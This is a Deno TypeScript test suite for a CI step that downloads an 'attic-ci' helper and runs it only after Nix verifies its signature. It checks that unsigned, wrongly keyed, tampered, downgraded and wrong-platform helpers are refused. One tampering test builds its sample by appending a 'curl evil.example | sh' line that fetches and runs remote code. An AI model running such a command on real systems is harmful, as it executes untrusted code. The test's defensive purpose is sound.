/**
 * The helper step's download: the helper for this component version and
 * platform comes from the package registry (a local HTTP server stands in for
 * it) and runs only once Nix has verified it against the key that comes with
 * the component version (`helper_public_key`): its store path names exactly
 * this version and system, its narinfo is signed by that key, and the NAR is
 * what was signed. Everything else is refused, in one line, and never runs,
 * in an image like nixos/nix (no FHS loader, few tools) and one like Debian.
 * The verified helper is kept once per version and user, and verified again
 * before each use.
 */

import { assert, assertEquals, assertIncludes } from "../helpers/assert.ts";
import {
  helperStep,
  NIXOS_NIX_TOOLS,
  runHelperStep,
  type StepResult,
  storeWithGlibc,
  toolbox,
  withoutLoader,
} from "../helpers/helper_step.ts";
import { tempDir } from "../helpers/nix.ts";
import {
  genericPackagePath,
  type PackageRegistry,
  startRegistry,
} from "../helpers/package_registry.ts";
import {
  type ReleaseFiles,
  signedHelper,
  type TestKey,
  testKey,
} from "../helpers/signed_release.ts";

/** This machine's platform, as the step names it. */
const SYSTEM = `${Deno.build.arch}-${Deno.build.os === "darwin" ? "darwin" : "linux"}`;
const OTHER_SYSTEM = SYSTEM === "x86_64-linux" ? "aarch64-linux" : "x86_64-linux";
const FILE = `attic-ci-${SYSTEM}`;
const PROJECT = "attic-ci/attic-ci";
const JOB_TOKEN = "job-token-do-not-leak";
const VERSION = "1.4.2";
const DEBIAN_PATH = "/usr/local/bin:/usr/bin:/bin";

/** A stand-in helper: says its version, and leaves a mark when it runs. */
function helperScript(label: string): string {
  return `#!/bin/sh\ntouch "$ATTIC_CI_TEST_MARKS/ran-${label}"\necho "attic-ci ${label}"\n`;
}

// Keys and signed helpers are made once, with real Nix, and shared by the tests.
const KEYS = await tempDir("attic-ci-keys-");
const RELEASE_KEY: TestKey = await testKey(KEYS, "attic-ci-test-release-1");
const OTHER_KEY: TestKey = await testKey(KEYS, "someone-else-1");
const signed = new Map<string, ReleaseFiles>();

/** A helper signed (or not) as `release/sign.ts` signs it; cached by its description. */
async function helper(
  body: string | Uint8Array,
  options: { version?: string; system?: string; key?: TestKey | null } = {},
): Promise<ReleaseFiles> {
  const version = options.version ?? VERSION;
  const system = options.system ?? SYSTEM;
  const key = options.key === undefined ? RELEASE_KEY : options.key;
  const id = `${typeof body === "string" ? body : body.length}|${version}|${system}|${key?.name}`;
  let files = signed.get(id);
  if (files === undefined) {
    files = await signedHelper(KEYS, { body, version, system, key });
    signed.set(id, files);
  }
  return files;
}

/**
 * Serves `files` as the release of `version` for this platform: file names
 * of another system are served under this system's names (a swap), and
 * `omit` leaves files out.
 */
function publish(
  registry: PackageRegistry,
  version: string,
  files: ReleaseFiles,
  options: { omit?: string[]; project?: string; prefix?: string } = {},
): void {
  for (const [name, body] of files) {
    const served = name.replace(/^attic-ci-[a-z0-9_]+-(linux|darwin)/, FILE);
    if (options.omit?.includes(served)) continue;
    registry.put(
      options.prefix !== undefined
        ? `${options.prefix}/${version}/${served}`
        : genericPackagePath(options.project ?? PROJECT, version, served),
      body,
    );
  }
}

/** An image the jobs run in. */
interface Image {
  readonly name: string;
  /** The job's PATH, made in `dir`. */
  path(dir: string): Promise<string>;
}

/** Like nixos/nix: a handful of tools and Nix; no sha256sum, cmp or sed. */
const NIXOS_NIX: Image = {
  name: "nixos/nix-like image",
  path: (dir) => toolbox(`${dir}/tools`, NIXOS_NIX_TOOLS),
};

/** Like Debian or Ubuntu with Nix installed: the usual PATH, with curl. */
const DEBIAN: Image = { name: "Debian-like image", path: () => Promise.resolve(DEBIAN_PATH) };

interface Job {
  readonly dir: string;
  readonly home: string;
  readonly tmp: string;
  readonly marks: string;
  readonly path: string;
  readonly registry: PackageRegistry;
  env(extra?: Record<string, string>): Record<string, string>;
  /** Runs the step of `template` (default nix-build), then `after`. */
  step(extra?: Record<string, string>, after?: string, template?: string): Promise<StepResult>;
  ran(label: string): Promise<boolean>;
  /** The registry's GET requests so far. */
  downloads(): string[];
  dispose(): Promise<void>;
}

async function job(image: Image = DEBIAN): Promise<Job> {
  const dir = await tempDir("attic-ci-download-");
  const [home, tmp, marks] = [`${dir}/home`, `${dir}/tmp`, `${dir}/marks`];
  for (const d of [home, tmp, marks]) await Deno.mkdir(d);
  const path = await image.path(dir);
  const registry = startRegistry();
  const env = (extra: Record<string, string> = {}) => ({
    PATH: path,
    HOME: home,
    TMPDIR: tmp,
    CI_JOB_ID: "4242",
    CI_API_V4_URL: registry.apiUrl,
    CI_JOB_TOKEN: JOB_TOKEN,
    ATTIC_CI_HELPER_PROJECT: PROJECT,
    ATTIC_CI_HELPER_VERSION: "",
    ATTIC_CI_HELPER_URL: "",
    ATTIC_CI_HELPER_PUBLIC_KEY: RELEASE_KEY.publicKey,
    ATTIC_CI_COMPONENT_VERSION: VERSION,
    ATTIC_CI_COMPONENT_SHA: "0123456789abcdef0123456789abcdef01234567",
    ATTIC_CI_TEST_MARKS: marks,
    ...extra,
  });
  return {
    dir,
    home,
    tmp,
    marks,
    path,
    registry,
    env,
    async step(extra = {}, after = "", template = "nix-build") {
      return await runHelperStep(await helperStep(template), { env: env(extra), after });
    },
    ran: (label) => Deno.stat(`${marks}/ran-${label}`).then(() => true, () => false),
    downloads: () => registry.requests.filter((r) => r.method === "GET").map((r) => r.path),
    async dispose() {
      await registry.close();
      await Deno.remove(dir, { recursive: true });
    },
  };
}

/** The one line the step says when it refuses, and that nothing ran or went on. */
async function assertRefused(j: Job, result: StepResult, line: string, label = VERSION) {
  assertEquals(result.code, 1, result.stderr);
  const said = result.stderr.trim().split("\n");
  assertIncludes(said.at(-1) ?? "", `attic-ci helper: ${line}`);
  assert(!result.stdout.includes("the job went on"), "the job went on");
  assert(!(await j.ran(label)), "an unverified helper ran");
}

function files(names: string[]): string[] {
  return names.map((name) => genericPackagePath(PROJECT, VERSION, name));
}

const KEPT = (home: string) => `${home}/.cache/attic-ci/helpers/${VERSION}-${SYSTEM}`;
const BASE = (registry: PackageRegistry) =>
  `${registry.apiUrl}/projects/attic-ci%2Fattic-ci/packages/generic/attic-ci/${VERSION}`;

Deno.test("nixos/nix-like image: the step downloads this version's helper, runs it through the store's loader only after Nix verified its signature, and says by which key", async () => {
  const j = await job(NIXOS_NIX);
  try {
    // A glibc program like the compiled helper, whose FHS loader this image lacks.
    const binary = `${j.dir}/env-without-loader`;
    const interpreter = await withoutLoader("/usr/bin/env", binary);
    const store = `${j.dir}/store`;
    const glibc = await storeWithGlibc(store, interpreter);
    publish(j.registry, VERSION, await helper(await Deno.readFile(binary)));

    const result = await j.step({ ATTIC_CI_STORE_DIR: store }, "attic-ci --version");
    assertEquals(result.code, 0, result.stderr);
    assertIncludes(
      result.stderr,
      `attic-ci helper: verified attic-ci ${VERSION} for ${SYSTEM} from ${BASE(j.registry)}: ` +
        `signed by ${RELEASE_KEY.name}; kept in ${KEPT(j.home)}\n`,
    );
    assertIncludes(result.stderr, `no FHS loader in this image; starting attic-ci with ${glibc}/`);
    assertIncludes(result.stdout, "env (GNU coreutils)");
    assertEquals(j.downloads(), files([`${FILE}.storepath`, `${FILE}.narinfo`, `${FILE}.nar`]));
    assert(j.registry.requests.every((r) => r.jobToken === JOB_TOKEN), "no JOB-TOKEN header");
    assert(!(result.stdout + result.stderr).includes(JOB_TOKEN), "token logged");

    // after_script, or the next job: verified again and started through the kept launcher.
    const again = await j.step({ ATTIC_CI_STORE_DIR: store }, "", "use");
    assertEquals(again.code, 0, again.stderr);
    assertIncludes(again.stderr, `attic-ci helper: reusing attic-ci ${VERSION} for ${SYSTEM} kept`);
    assertIncludes(again.stdout, "env (GNU coreutils)");
    assertEquals(j.downloads().length, 3, "downloaded again");
  } finally {
    await j.dispose();
  }
});

Deno.test("Debian-like image: the step downloads this version's helper, runs it only after Nix verified its signature, and says by which key", async () => {
  const j = await job(DEBIAN);
  try {
    publish(j.registry, VERSION, await helper(helperScript(VERSION)));
    const result = await j.step({}, "attic-ci --version");
    assertEquals(result.code, 0, result.stderr);
    assertIncludes(
      result.stderr,
      `attic-ci helper: verified attic-ci ${VERSION} for ${SYSTEM} from ${BASE(j.registry)}: ` +
        `signed by ${RELEASE_KEY.name}; kept in ${KEPT(j.home)}\n`,
    );
    assertEquals(result.stdout, `attic-ci ${VERSION}\nattic-ci ${VERSION}\n`);
    assert(await j.ran(VERSION), "the helper did not run");
    assertEquals(j.downloads(), files([`${FILE}.storepath`, `${FILE}.narinfo`, `${FILE}.nar`]));
  } finally {
    await j.dispose();
  }
});

for (const image of [NIXOS_NIX, DEBIAN]) {
  Deno.test(`${image.name}: a helper that nothing vouches for is refused: no .storepath, no .narinfo, or no .nar`, async () => {
    for (const missing of ["storepath", "narinfo", "nar"]) {
      const j = await job(image);
      try {
        publish(j.registry, VERSION, await helper(helperScript(VERSION)), {
          omit: [`${FILE}.${missing}`],
        });
        const result = await j.step({}, "echo the job went on");
        await assertRefused(
          j,
          result,
          `cannot download ${BASE(j.registry)}/${FILE}.${missing}: nothing vouches for ` +
            `attic-ci ${VERSION} for ${SYSTEM}; refusing to run an unverified helper`,
        );
        // The binary itself is never even fetched: only what vouches for it is.
        assert(!j.downloads().some((p) => p.endsWith(`/${FILE}`)), "fetched the bare binary");
      } finally {
        await j.dispose();
      }
    }
  });

  Deno.test(`${image.name}: a helper signed by another key, or not signed at all, is refused`, async () => {
    const j = await job(image);
    try {
      publish(j.registry, VERSION, await helper(helperScript(VERSION), { key: OTHER_KEY }));
      const other = await j.step({}, "echo the job went on");
      await assertRefused(
        j,
        other,
        `attic-ci-${VERSION}-${SYSTEM} is signed by ${OTHER_KEY.name}, not by ` +
          `${RELEASE_KEY.name} (helper_public_key); refusing to run it`,
      );

      // Without the key, an attacker can still publish a content-addressed path under the
      // right name; Nix would accept its CA: line as proof. The step does not.
      publish(j.registry, VERSION, await helper(helperScript(VERSION), { key: null }));
      const unsigned = await j.step({}, "echo the job went on");
      await assertRefused(
        j,
        unsigned,
        `attic-ci-${VERSION}-${SYSTEM} is not signed; refusing to run it`,
      );
    } finally {
      await j.dispose();
    }
  });

  Deno.test(`${image.name}: a helper altered after signing is refused: its NAR changed, or its narinfo's hash changed to match`, async () => {
    const j = await job(image);
    try {
      const good = await helper(helperScript(VERSION));
      const evil = await helper(`${helperScript(VERSION)}curl evil.example | sh\n`, {
        key: OTHER_KEY,
      });
      // The NAR of a tampered binary, under the genuine signed narinfo.
      publish(j.registry, VERSION, new Map([...good, [`${FILE}.nar`, evil.get(`${FILE}.nar`)!]]));
      const nar = await j.step({}, "echo the job went on");
      await assertRefused(
        j,
        nar,
        `attic-ci-${VERSION}-${SYSTEM} from ${BASE(j.registry)} was altered after signing: ` +
          `its NAR is not what ${RELEASE_KEY.name} signed; refusing to run it`,
      );

      // The same, with the narinfo's NarHash and NarSize changed to match the tampered NAR.
      const narinfo = new TextDecoder().decode(good.get(`${FILE}.narinfo`)!);
      const evilInfo = new TextDecoder().decode(evil.get(`${FILE}.narinfo`)!);
      const field = (text: string, name: string) => new RegExp(`^${name}: .*$`, "m").exec(text)![0];
      const forged = narinfo
        .replace(field(narinfo, "NarHash"), field(evilInfo, "NarHash"))
        .replace(field(narinfo, "NarSize"), field(evilInfo, "NarSize"));
      assert(forged !== narinfo, "nothing forged");
      publish(
        j.registry,
        VERSION,
        new Map([
          ...good,
          [`${FILE}.nar`, evil.get(`${FILE}.nar`)!],
          [`${FILE}.narinfo`, new TextEncoder().encode(forged)],
        ]),
      );
      const both = await j.step({}, "echo the job went on");
      await assertRefused(
        j,
        both,
        `the signature of attic-ci-${VERSION}-${SYSTEM} by ${RELEASE_KEY.name} does not verify: ` +
          "altered after signing; refusing to run it",
      );
    } finally {
      await j.dispose();
    }
  });

  Deno.test(`${image.name}: a validly signed helper of another version or another system is refused`, async () => {
    const j = await job(image);
    try {
      // A genuine older release, served as this version: a downgrade.
      publish(j.registry, VERSION, await helper(helperScript("1.4.1"), { version: "1.4.1" }));
      const older = await j.step({}, "echo the job went on");
      await assertRefused(
        j,
        older,
        `${BASE(j.registry)}/${FILE}.storepath names `,
        "1.4.1",
      );
      assertIncludes(
        older.stderr,
        `-attic-ci-1.4.1-${SYSTEM}, not attic-ci-${VERSION}-${SYSTEM}; refusing a helper of ` +
          "another version or system\n",
      );
      assertEquals(j.downloads().length, 1, "went on past the store path");

      // A genuine helper of this version for another platform, served as this one's.
      publish(
        j.registry,
        VERSION,
        await helper(helperScript("other"), { system: OTHER_SYSTEM }),
      );
      const otherSystem = await j.step({}, "echo the job went on");
      await assertRefused(j, otherSystem, `${BASE(j.registry)}/${FILE}.storepath names `, "other");
      assertIncludes(
        otherSystem.stderr,
        `-attic-ci-${VERSION}-${OTHER_SYSTEM}, not attic-ci-${VERSION}-${SYSTEM}; refusing a ` +
          "helper of another version or system\n",
      );
    } finally {
      await j.dispose();
    }
  });
}

Deno.test("a second job of the same user reuses the kept helper without any download, after verifying it again; nothing stays in TMPDIR", async () => {
  const j = await job(DEBIAN);
  try {
    publish(j.registry, VERSION, await helper(helperScript(VERSION)));
    const first = await j.step();
    assertEquals(first.code, 0, first.stderr);
    assertEquals(j.downloads().length, 3);

    await Deno.remove(`${j.marks}/ran-${VERSION}`);
    const second = await j.step({ CI_JOB_ID: "4243" }, "attic-ci --version", "watch-store");
    assertEquals(second.code, 0, second.stderr);
    assertEquals(
      second.stderr,
      `attic-ci helper: reusing attic-ci ${VERSION} for ${SYSTEM} kept in ${KEPT(j.home)}: ` +
        `signed by ${RELEASE_KEY.name}, verified again; nothing downloaded\n`,
    );
    assertEquals(second.stdout, `attic-ci ${VERSION}\nattic-ci ${VERSION}\n`);
    assert(await j.ran(VERSION), "the kept helper did not run");
    assertEquals(j.downloads().length, 3, "downloaded again");
    assertEquals([...Deno.readDirSync(j.tmp)], [], "a per-job copy was left in TMPDIR");
    // Kept privately, once: no half-written copy or NAR next to it.
    const kept = `${j.home}/.cache/attic-ci/helpers`;
    assertEquals((await Deno.stat(kept)).mode! & 0o777, 0o700);
    assertEquals([...Deno.readDirSync(kept)].map((e) => e.name), [`${VERSION}-${SYSTEM}`]);
    assertEquals(
      [...Deno.readDirSync(KEPT(j.home))].map((e) => e.name).sort(),
      ["bin", "cache", "helper", "storepath"],
    );
  } finally {
    await j.dispose();
  }
});

Deno.test("a kept helper that was altered never runs: the step says so and downloads the verified one again", async () => {
  const j = await job(DEBIAN);
  try {
    publish(j.registry, VERSION, await helper(helperScript(VERSION)));
    assertEquals((await j.step()).code, 0);
    await Deno.remove(`${j.marks}/ran-${VERSION}`);
    await Deno.writeTextFile(`${KEPT(j.home)}/helper`, helperScript("tampered"));

    const result = await j.step({ CI_JOB_ID: "4243" });
    assertEquals(result.code, 0, result.stderr);
    assertIncludes(
      result.stderr,
      `attic-ci helper: the kept attic-ci-${VERSION}-${SYSTEM} in ${KEPT(j.home)} no longer ` +
        `verifies (altered, or not signed by ${RELEASE_KEY.name}); downloading it again\n`,
    );
    assertIncludes(result.stderr, `attic-ci helper: verified attic-ci ${VERSION} for ${SYSTEM}`);
    assert(!(await j.ran("tampered")), "the altered helper ran");
    assert(await j.ran(VERSION), "the verified helper did not run");
    assertEquals(j.downloads().length, 6);

    // A kept helper that another key signed (helper_public_key changed) is not trusted
    // either; here the registry's is not signed by the new key, so the job stops.
    const rekeyed = await j.step({
      CI_JOB_ID: "4244",
      ATTIC_CI_HELPER_PUBLIC_KEY: OTHER_KEY.publicKey,
    });
    assertEquals(rekeyed.code, 1);
    assertIncludes(rekeyed.stderr, `not signed by ${OTHER_KEY.name}); downloading it again\n`);
    assertIncludes(
      rekeyed.stderr,
      `is signed by ${RELEASE_KEY.name}, not by ${OTHER_KEY.name} (helper_public_key)`,
    );
  } finally {
    await j.dispose();
  }
});

Deno.test("two jobs of the same user at once both run the verified helper, and one copy is kept", async () => {
  const j = await job(DEBIAN);
  try {
    publish(j.registry, VERSION, await helper(helperScript(VERSION)));
    const results = await Promise.all(
      ["1", "2", "3"].map((id) => j.step({ CI_JOB_ID: id }, "attic-ci --version")),
    );
    for (const result of results) {
      assertEquals(result.code, 0, result.stderr);
      assertEquals(result.stdout, `attic-ci ${VERSION}\nattic-ci ${VERSION}\n`);
    }
    const kept = `${j.home}/.cache/attic-ci/helpers`;
    assertEquals([...Deno.readDirSync(kept)].map((e) => e.name), [`${VERSION}-${SYSTEM}`]);
    assertEquals(
      [...Deno.readDirSync(KEPT(j.home))].map((e) => e.name).sort(),
      ["bin", "cache", "helper", "storepath"],
    );
  } finally {
    await j.dispose();
  }
});

Deno.test("without a usable HOME the helper is kept for the job only: after_script reuses it and removes it when it ends", async () => {
  for (const home of [{ HOME: "" }, { HOME: "/proc/attic-ci-no-home" }]) {
    const j = await job(DEBIAN);
    try {
      publish(j.registry, VERSION, await helper(helperScript(VERSION)));
      const perJob = `${j.tmp}/attic-ci-helper-4242`;
      // before_script and script: the job is running.
      const before = await j.step({ ...home, CI_JOB_STATUS: "running" });
      assertEquals(before.code, 0, before.stderr);
      assertIncludes(
        before.stderr,
        `attic-ci helper: no usable HOME (${home.HOME || "unset"}): the helper is kept for this ` +
          `job only, in ${perJob}\n`,
      );
      assertIncludes(before.stderr, `kept in ${perJob}/${VERSION}-${SYSTEM}\n`);
      assert(await Deno.stat(`${perJob}/${VERSION}-${SYSTEM}/helper`), "not kept for the job");

      // after_script: a new shell; the job's status is known.
      await Deno.remove(`${j.marks}/ran-${VERSION}`);
      const after = await j.step({ ...home, CI_JOB_STATUS: "failed" }, "attic-ci --version");
      assertEquals(after.code, 0, after.stderr);
      assertIncludes(after.stderr, "verified again; nothing downloaded");
      assertIncludes(after.stdout, `attic-ci ${VERSION}\n`);
      assertEquals(j.downloads().length, 3);
      assertEquals([...Deno.readDirSync(j.tmp)], [], "the job's copy stayed");
    } finally {
      await j.dispose();
    }
  }
});

Deno.test("without nix, or with a Nix older than 2.4, the step refuses in one line and downloads nothing; an attic-ci on PATH still wins", async () => {
  const j = await job(DEBIAN);
  try {
    publish(j.registry, VERSION, await helper(helperScript(VERSION)));
    const noNix = await toolbox(
      `${j.dir}/no-nix`,
      NIXOS_NIX_TOOLS.filter((tool) => tool !== "nix"),
    );
    const missing = await j.step({ PATH: noNix }, "echo the job went on");
    assertEquals(missing.code, 1);
    assertEquals(
      missing.stderr,
      "attic-ci helper: no nix in this image to verify the helper with: use an image with " +
        "Nix 2.4 or later, or put attic-ci on PATH in your image\n",
    );
    assert(!missing.stdout.includes("the job went on"), "the job went on");

    const oldNix = `${j.dir}/old-nix`;
    await Deno.mkdir(oldNix);
    await Deno.writeTextFile(`${oldNix}/nix`, '#!/bin/sh\necho "nix (Nix) 2.3.16"\n', {
      mode: 0o755,
    });
    const old = await j.step({ PATH: `${oldNix}:${noNix}` });
    assertEquals(old.code, 1);
    assertEquals(
      old.stderr,
      "attic-ci helper: nix 2.3.16 cannot verify the helper (no nix store verify): use an " +
        "image with Nix 2.4 or later, or put attic-ci on PATH in your image\n",
    );
    assertEquals(j.downloads(), [], "downloaded what it cannot verify");
    assert(!(await j.ran(VERSION)), "the helper ran");

    const image = `${j.dir}/image-bin`;
    await Deno.mkdir(image);
    await Deno.writeTextFile(`${image}/attic-ci`, helperScript("0.0.1-image"), { mode: 0o755 });
    const onPath = await j.step({ PATH: `${image}:${noNix}` });
    assertEquals(onPath.code, 0, onPath.stderr);
    assertEquals(onPath.stderr, `attic-ci helper: using ${image}/attic-ci from PATH\n`);
    assertEquals(onPath.stdout, "attic-ci 0.0.1-image\n");
    assertEquals(j.downloads(), []);
  } finally {
    await j.dispose();
  }
});

Deno.test("the step takes the commit for a SHA or branch reference, and the helper_version input over both", async () => {
  const j = await job(DEBIAN);
  try {
    const sha = "0123456789abcdef0123456789abcdef01234567";
    publish(j.registry, sha, await helper(helperScript(sha), { version: sha }));
    const bySha = await j.step({ ATTIC_CI_COMPONENT_VERSION: "" });
    assertEquals(bySha.code, 0, bySha.stderr);
    assertIncludes(bySha.stdout, `attic-ci ${sha}`);
    assertIncludes(bySha.stderr, `verified attic-ci ${sha} for ${SYSTEM}`);

    publish(j.registry, "1.3.0", await helper(helperScript("1.3.0"), { version: "1.3.0" }));
    const pinned = await j.step({ ATTIC_CI_HELPER_VERSION: "1.3.0" });
    assertEquals(pinned.code, 0, pinned.stderr);
    assertIncludes(pinned.stdout, "attic-ci 1.3.0");
  } finally {
    await j.dispose();
  }
});

Deno.test("helper_project names a mirrored component project; helper_url a plain mirror, which never gets the job token", async () => {
  const j = await job(DEBIAN);
  try {
    const files = await helper(helperScript(VERSION));
    publish(j.registry, VERSION, files, { project: "platform/tools/attic-ci" });
    const project = await j.step({ ATTIC_CI_HELPER_PROJECT: "platform/tools/attic-ci" });
    assertEquals(project.code, 0, project.stderr);
    assertEquals(
      j.registry.requests.at(-1)?.path,
      `/api/v4/projects/platform%2Ftools%2Fattic-ci/packages/generic/attic-ci/${VERSION}/${FILE}.nar`,
    );

    publish(j.registry, VERSION, files, { prefix: "/mirror/attic-ci" });
    const mirror = await j.step({
      ATTIC_CI_HELPER_URL: `${j.registry.origin}/mirror/attic-ci/`,
      HOME: `${j.dir}/home-2`,
    });
    assertEquals(mirror.code, 0, mirror.stderr);
    assertIncludes(mirror.stderr, `from ${j.registry.origin}/mirror/attic-ci/${VERSION}: signed`);
    const fromMirror = j.registry.requests.filter((r) => r.path.startsWith("/mirror/"));
    assertEquals(fromMirror.length, 3);
    assert(fromMirror.every((r) => r.jobToken === null), "the job token went to a mirror");

    // A URL on this GitLab's own API (how the project's self-test names its registry) gets it.
    const own = `${j.registry.apiUrl}/projects/77/packages/generic/attic-ci`;
    publish(j.registry, VERSION, files, {
      prefix: "/api/v4/projects/77/packages/generic/attic-ci",
    });
    const byUrl = await j.step({ ATTIC_CI_HELPER_URL: own, HOME: `${j.dir}/home-3` });
    assertEquals(byUrl.code, 0, byUrl.stderr);
    assertEquals(j.registry.requests.at(-1)?.jobToken, JOB_TOKEN);
  } finally {
    await j.dispose();
  }
});

Deno.test("a helper_public_key that is not a Nix public key is refused in one line", async () => {
  const j = await job(DEBIAN);
  try {
    for (const key of ["", "no-colon", "a:b:c", "name only:abc="]) {
      const result = await j.step({ ATTIC_CI_HELPER_PUBLIC_KEY: key });
      assertEquals(result.code, 1, key);
      assertEquals(
        result.stderr,
        "attic-ci helper: helper_public_key is not a Nix public key (NAME:BASE64): set it, or " +
          "put attic-ci on PATH in your image\n",
      );
    }
    assertEquals(j.downloads(), []);
  } finally {
    await j.dispose();
  }
});

globalThis.addEventListener("unload", () => {
  Deno.removeSync(KEYS, { recursive: true });
});
